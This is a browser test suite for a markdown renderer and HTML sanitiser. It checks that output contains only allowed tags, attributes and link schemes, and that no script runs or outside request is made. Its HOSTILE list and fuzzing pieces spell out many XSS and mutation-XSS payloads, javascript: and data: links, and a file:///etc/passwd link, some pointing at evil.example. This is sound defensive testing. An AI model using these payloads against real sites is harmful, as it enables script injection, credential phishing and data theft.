"""The renderer and sanitiser in a real browser: hostile text, half-streamed text, citations, huge text.

Whatever goes in, what comes out is judged by one rule (`JUDGE`): only these elements, only these attributes, only these
schemes, nothing run, nothing fetched.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page, Request

pytestmark = pytest.mark.browser

# Shows each text and returns what is wrong with the results, by text.
JUDGE = """async ([texts, options]) => {
  const { render } = await import("/static/render.js");
  const tags = new Set(("P BR HR H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE EM STRONG B I U S DEL INS SUB SUP KBD MARK " +
    "A TABLE THEAD TBODY TR TH TD BUTTON SPAN").split(" "));
  const attributes = {
    A: ["href", "target", "rel"], OL: ["start"], TH: ["align"], TD: ["align"],
    BUTTON: ["type", "class", "data-n", "aria-label"], SPAN: ["class", "data-mark"],
  };
  const box = document.querySelector("#app");
  const found = {};
  for (const text of texts) {
    box.replaceChildren(render(text, options));
    const wrong = [];
    for (const node of box.querySelectorAll("*")) {
      if (!tags.has(node.tagName)) wrong.push(node.tagName);
      for (const { name } of node.attributes) {
        if (!(attributes[node.tagName] ?? []).includes(name)) wrong.push(`${node.tagName} ${name}`);
      }
      if (node.tagName === "A") {
        if (!["http:", "https:", "mailto:"].includes(node.protocol)) wrong.push(node.href);
        if (node.rel !== "noopener noreferrer nofollow" || node.target !== "_blank") wrong.push("bare link");
      }
    }
    if (wrong.length > 0) found[text] = wrong;
  }
  await new Promise((resolve) => setTimeout(resolve, texts.length > 1 ? 100 : 0));
  if (globalThis.hit !== undefined) found["a script ran"] = [];
  return found;
}"""
SHOWN = """async ([text, options]) => {
  const { render } = await import("/static/render.js");
  const box = document.querySelector("#app");
  box.replaceChildren(render(text, options));
  return box.innerHTML;
}"""

HOSTILE = [
    "<script>globalThis.hit = 1</script>",
    "<img src=x onerror='globalThis.hit = 1'>",
    "<svg onload=globalThis.hit=1><script>globalThis.hit=1</script></svg>",
    "<svg><style><img src=x onerror=globalThis.hit=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=globalThis.hit=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=globalThis.hit=1>'></noscript>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data='javascript:hit=1'></object><embed src='javascript:hit=1'>",
    "<form action='https://evil.example/'><input name=password><button>go</button></form>",
    "<button class=cite data-n=1 onclick=globalThis.hit=1>1</button>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)}</style>",
    "<p style='background:url(https://evil.example/z)' onmouseover=globalThis.hit=1>x</p>",
    "<b onclick=globalThis.hit=1>bold</b> <sup id=app name=body>x</sup>",
    "<details open ontoggle=globalThis.hit=1>x</details>",
    "<video poster='https://evil.example/p'><source onerror=globalThis.hit=1></video>",
    "<a href='javascript:globalThis.hit=1'>x</a>",
    "[x](javascript:globalThis.hit=1)",
    "[x](JaVaScRiPt:globalThis.hit=1)",
    "[x](&#106;avascript:globalThis.hit=1)",
    "[x](javascript&colon;globalThis.hit=1)",
    "[x](java\tscript:globalThis.hit=1)",
    "[x](\x01javascript:globalThis.hit=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=)",
    "[x](vbscript:msgbox) [y](file:///etc/passwd) [z](blob:https://evil.example/1)",
    "[x](//evil.example/) [y](/api/session) [z](#app) [w](../static/x)",
    '[x](https://good.example/" onmouseover="globalThis.hit=1)',
    "[x](https://good.example/ \"title' onmouseover='globalThis.hit=1\")",
    '<https://good.example/"onmouseover=globalThis.hit=1>',
    "<javascript:globalThis.hit=1>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:globalThis.hit=1)",
    '![x" onerror="globalThis.hit=1](https://evil.example/pixel.png)',
    "[![x](https://evil.example/pixel.png)](https://good.example/)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "[x][js]\n\n[js]: javascript:globalThis.hit=1",
    "```html\n<script>globalThis.hit=1</script>\n```",
    '```"><img src=x onerror=globalThis.hit=1>\ncode\n```',
    "`<img src=x onerror=globalThis.hit=1>`",
    "| <img src=x onerror=globalThis.hit=1> | b |\n|---|---|\n| <script>hit=1</script> | [x](javascript:hit) |",
    "# <img src=x onerror=globalThis.hit=1>",
    "- [ ] <input autofocus onfocus=globalThis.hit=1>",
    "&lt;img src=x onerror=globalThis.hit=1&gt; &#60;script&#62;globalThis.hit=1&#60;/script&#62;",
    "<!--><img src=x onerror=globalThis.hit=1>-->",
    "<![CDATA[<img src=x onerror=globalThis.hit=1>]]> <?php echo 1 ?> <!DOCTYPE html>",
    "<x-element onclick=globalThis.hit=1 is=x>custom</x-element>",
    "<template><img src=x onerror=globalThis.hit=1></template>",
    "</div></body></html><script>globalThis.hit=1</script>",
    "\u0000<scr\u0000ipt>globalThis.hit=1</scr\u0000ipt>",
    "<a name=render>x</a><img name=getElementById><form name=body>",
    "[constructor](https://good.example/) __proto__ [__proto__] [1](javascript:globalThis.hit=1)",
]
# What hypothesis builds hostile texts from: pieces without spaces, and the others.
PIECES = r"""
< > " ' ` ``` * ** _ [ ] ( ) ! ![ ]( | |---| \ 退货 。 a data: &lt; &#x3c; &colon; [1] [2] 【1】 [99] https://a.example
<script> </script> <b> </b> <br> <style> <!-- --> <a <svg/onload=globalThis.hit=1> javascript:globalThis.hit=1
](javascript: ](https://a.example/
"""
SPACED = [
    *("\0", "\u202e", "\n", "\n\n", "\t", " ", "    ", "# ", "> ", "- ", "1. ", "[1, 2]", "[1]: ", "<a href="),
    *(" onclick=globalThis.hit=1 ", "<img src=x onerror=globalThis.hit=1>"),
]
FRAGMENTS = [*PIECES.split(), *SPACED]

LONG = """# Returns

Goods may be returned within **30 days** [1], counted from the day of *delivery* [2][1]:

1. pack them,
2. write to <returns@example.org> or see [the page](https://example.org/returns "page"),
   - with the invoice
   - and a `reason [1]`

| what | days |
|:-----|-----:|
| books | 30 [2] |

```python
print("[1]")
```

> 特价商品不可退货【2】。 ~~14 天~~ 30 天 [1, 2]

![a picture](https://evil.example/p.png) The end [7]."""


@pytest.fixture(scope="module")
def tab(chromium: Browser) -> Iterator[Page]:
    context = chromium.new_context()
    yield context.new_page()
    context.close()


@pytest.fixture
def page(tab: Page, static_site: str) -> Iterator[Page]:
    """An empty page of the static site; the test fails when anything beyond the site's own files was asked for."""
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    tab.on("request", note)
    tab.goto(f"{static_site}/blank")
    yield tab
    tab.remove_listener("request", note)
    assert [url for url in asked if not url.startswith(f"{static_site}/")] == []


def judge(page: Page, *texts: str, **options: Any) -> Any:
    """What is wrong with the rendered texts, by text."""
    return page.evaluate(JUDGE, [list(texts), options])


def shown(page: Page, text: str, **options: Any) -> str:
    return str(page.evaluate(SHOWN, [text, options]))


def test_render_hostile_text_comes_out_harmless(page: Page) -> None:
    assert judge(page, *HOSTILE, citations=[1]) == {}


def test_render_hostile_text_stays_harmless_while_it_streams(page: Page) -> None:
    cut = [text[:end] for text in HOSTILE for end in range(1, len(text), 2)]
    assert judge(page, *cut, citations=[1], unfinished=True) == {}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=40).map("".join))
def test_render_any_mixture_comes_out_harmless(page: Page, text: str) -> None:
    text = text.encode("utf-8", "replace").decode("utf-8")  # lone surrogates cannot travel to the browser
    assert judge(page, text, citations=[1, 2]) == {}


def test_render_shows_raw_html_as_the_text_that_it_is(page: Page) -> None:
    judge(page, "Say <marquee>hello</marquee> & <b>bold</b>, H<sub>2</sub>O")
    assert page.locator("#app").text_content() == "Say <marquee>hello</marquee> & bold, H2O\n"
    assert page.locator("#app b").all_text_contents() == ["bold"]
    assert page.locator("#app sub").all_text_contents() == ["2"]


def test_render_never_makes_an_image(page: Page) -> None:
    text = "![a map](https://evil.example/p.png) ![local](/static/favicon.svg) ![](data:image/png;base64,AAAA)"
    link = '<a href="https://evil.example/p.png" target="_blank" rel="noopener noreferrer nofollow">a map</a>'
    assert shown(page, text) == f"<p>{link} local </p>\n"


def test_render_links_lead_out_safely_or_not_at_all(page: Page) -> None:
    text = (
        "[a](https://a.example/x?y=1&z=2) [b](javascript:alert(1)) [c](/api/users) <d@e.example> [f](ftp://g.example)"
    )
    assert shown(page, text) == (
        '<p><a href="https://a.example/x?y=1&amp;z=2" target="_blank" rel="noopener noreferrer nofollow">a</a> b c '
        '<a href="mailto:d@e.example" target="_blank" rel="noopener noreferrer nofollow">d@e.example</a> f</p>\n'
    )


def test_render_headings_stay_below_those_of_the_page(page: Page) -> None:
    assert shown(page, "# a\n\n###### b") == "<h3>a</h3>\n<h6>b</h6>\n"


def test_render_keeps_the_numbers_of_lists_and_the_sides_of_columns(page: Page) -> None:
    assert shown(page, "3. a\n4. b") == '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'
    shown(page, "| a | b |\n|--:|---|\n| 1 | 2 |")
    assert [cell.get_attribute("align") for cell in page.locator("#app td").all()] == ["right", None]


def test_render_known_citations_become_buttons(page: Page) -> None:
    button = '<button type="button" class="cite" data-n="{0}" aria-label="{0}">{0}</button>'
    text = "A [1], b [3], c [1, 2] d【2】."
    first, both, two = button.format(1), button.format(1) + button.format(2), button.format(2)
    expected = (
        f'<p>A<span class="cited">{first},</span> b [3], c<span class="cited">{both}</span> '
        f'd<span class="cited">{two}.</span></p>\n'
    )
    assert shown(page, text, citations=[1, 2]) == expected


def test_render_no_line_begins_with_a_citation_or_the_mark_after_it(page: Page) -> None:
    text = "Shoes can be returned **within 14 days** [1]. Sale items, too [1, 2]; 鞋子可以退货 [2]。特价商品除外【1】。"
    shown(page, text, citations=[1, 2])
    broken = page.evaluate("""async () => {
      const sheet = document.createElement("link");
      Object.assign(sheet, { rel: "stylesheet", href: "/static/css/prose.css" });
      await new Promise((loaded) => { sheet.onload = loaded; document.head.append(sheet); });
      const box = document.querySelector("#app");
      box.className = "prose";
      const found = [];
      for (let width = 120; width < 500; width += 1) {
        box.style.width = `${width}px`;
        for (const cited of box.querySelectorAll(".cited")) {
          const before = document.createRange();
          const text = cited.previousSibling.nodeType === 3 && cited.previousSibling.length
            ? cited.previousSibling : cited.parentElement.querySelector("strong").firstChild;
          before.setStart(text, text.length - 1);
          before.setEnd(text, text.length);
          const ends = [before, ...cited.querySelectorAll("button")].map((one) => one.getBoundingClientRect());
          if (ends.some((one) => Math.abs(one.top - ends[0].top) > 18)) found.push(width);
          if (cited.getClientRects().length > 1) found.push(width);
        }
      }
      return found;
    }""")
    assert broken == []


def test_render_citations_in_code_and_links_stay_text(page: Page) -> None:
    judge(page, "`x[1]` [see [1]](https://a.example)\n\n```\ny[1]\n```\n\nz[1]", citations=[1])
    assert page.locator("#app button").count() == 1
    assert page.locator("#app code").all_text_contents() == ["x[1]", "y[1]\n"]
    assert page.locator("#app a").all_text_contents() == ["see [1]"]


def test_render_footnotes_of_a_model_are_no_link_definitions(page: Page) -> None:
    judge(page, 'As said [1].\n\n[1]: https://evil.example/ "x"', citations=[1])
    assert page.locator("#app button").count() == 2
    assert [link.get_attribute("href") for link in page.locator("#app a").all()] == ["https://evil.example/"]


def test_render_half_a_citation_is_hidden_while_streaming(page: Page) -> None:
    halves = [shown(page, text, citations=[12], unfinished=True) for text in ("30 days [", "30 days [1", "30 days [12")]
    assert halves == ["<p>30 days</p>\n"] * 3
    assert shown(page, "30 days [1", citations=[12]) == "<p>30 days [1</p>\n"


def test_render_unfinished_bold_and_code_show_no_bare_marks(page: Page) -> None:
    texts = ("It is **bo", "It is **bold** and `co", "It is **", "- `a **b", "```\n**x", "2 * 3")
    assert [shown(page, text, unfinished=True) for text in texts] == [
        "<p>It is <strong>bo</strong></p>\n",
        "<p>It is <strong>bold</strong> and <code>co</code></p>\n",
        "<p>It is</p>\n",
        "<ul>\n<li><code>a **b</code></li>\n</ul>\n",
        "<pre><code>**x\n</code></pre>\n",
        "<p>2 * 3</p>\n",
    ]
    assert shown(page, "It is **bo") == "<p>It is **bo</p>\n"


def test_render_streamed_text_ends_like_text_shown_at_once(page: Page) -> None:
    same = page.evaluate(
        """async (text) => {
          const { render, patch } = await import("/static/render.js");
          const box = document.querySelector("#app");
          const options = { citations: [1, 2] };
          for (let end = 1; end <= text.length; end += 1) {
            patch(box, render(text.slice(0, end), { ...options, unfinished: true }));
          }
          patch(box, render(text, options));
          const once = document.createElement("div");
          once.append(render(text, options));
          return [box.innerHTML === once.innerHTML, box.querySelectorAll("button").length];
        }""",
        LONG,
    )
    assert same == [True, 7]


def test_patch_leaves_finished_paragraphs_in_place(page: Page) -> None:
    rendered = page.evaluate(
        """async () => {
          const { render, patch } = await import("/static/render.js");
          const box = document.querySelector("#app");
          patch(box, render("First [1].\\n\\nSec", { citations: [1] }));
          const first = box.firstElementChild;
          box.querySelector("button").focus();
          patch(box, render("First [1].\\n\\nSecond [1].", { citations: [1] }));
          const focused = document.activeElement === first.querySelector("button");
          return [box.firstElementChild === first, focused, box.textContent];
        }"""
    )
    assert rendered == [True, True, "First1.\nSecond1.\n"]


def test_plain_text_drops_markup_and_citations(page: Page) -> None:
    text = page.evaluate(
        "async (text) => (await import('/static/render.js')).plainText(text)",
        "**Press** [here](https://a.example) [1].\n\n- one\n- two [2]\n\n`x` <b>y</b>",
    )
    assert text == "Press here.\n\none\ntwo\n\nx y"


def test_plain_text_keeps_the_indexes_in_code(page: Page) -> None:
    text = page.evaluate(
        "async (text) => (await import('/static/render.js')).plainText(text)",
        "Read `argv[1]` [1].\n\n```\nprint(argv[2])\n```\n",
    )
    assert text == "Read argv[1].\n\nprint(argv[2])"


def test_plain_text_for_the_clipboard_keeps_bullets_numbers_and_columns(page: Page) -> None:
    text = page.evaluate(
        "async (text) => (await import('/static/render.js')).plainText(text, { marks: true })",
        "Do:\n\n3. pack\n4. send [1]\n   - by post\n\n| a | b |\n|---|---|\n| 1 [2] | 2 |",
    )
    assert text == "Do:\n\n3. pack\n4. send\n- by post\n\na\tb\n\n1\t2"


# Just below the limit of characters, each repeats something that parsers stumble over.
HUGE = {
    "a million characters": "word " * 200_000,
    "table": "|" * 25_000 + "\n" + "|-" * 12_000,
    "long table": "| a " * 20 + "\n" + "|---" * 20 + "|\n" + ("| b " * 20 + "|\n") * 500,
    "nested lists": "".join(f"{'  ' * depth}- x\n" for depth in range(250)),
    "fences": "".join(f"{'`' * length}\n" for length in range(3, 300)),
    **{
        repeated: (repeated * 50_000)[:49_000]
        for repeated in (
            *("a", "[", "]", "(", "`", "<", "&", "~", "\\\\", "\n", "|", "!", "*", "_", "【"),
            *(
                "> ",
                "- ",
                "# ",
                "![](",
                "[a](",
                "*a ",
                "**a* ",
                "_a_b",
                "`a``b",
                "<a ",
                "<!-- ",
                "</",
                "[1]",
                "[1 ",
                "[1,",
            ),
            *(
                "www.a.",
                "a@",
                "1. a\n",
                "http://",
                "[a]: b\n",
                "a\n",
                "a  \n",
                "> a\n",
                "```\n",
                "[ ",
                " ",
                " a",
                "&#x;",
                "*a_ ",
            ),
        )
    },
}


@pytest.mark.parametrize("kind", HUGE)
def test_render_shows_huge_text_in_little_time(page: Page, kind: str) -> None:
    timed = """async (text) => {
      const { render, plainText } = await import("/static/render.js");
      const started = performance.now();
      const box = document.querySelector("#app");
      box.replaceChildren(render(text, { citations: [1], unfinished: true }), plainText(text));
      return performance.now() - started;
    }"""
    assert page.evaluate(timed, HUGE[kind]) < 4000  # milliseconds, twice rendered, on a busy machine


def test_render_accepts_values_that_are_no_text(page: Page) -> None:
    assert page.evaluate(
        "async () => { const { render } = await import('/static/render.js');"
        " return [null, undefined, 7, ''].map((value) => render(value).textContent); }"
    ) == ["", "", "7\n", ""]
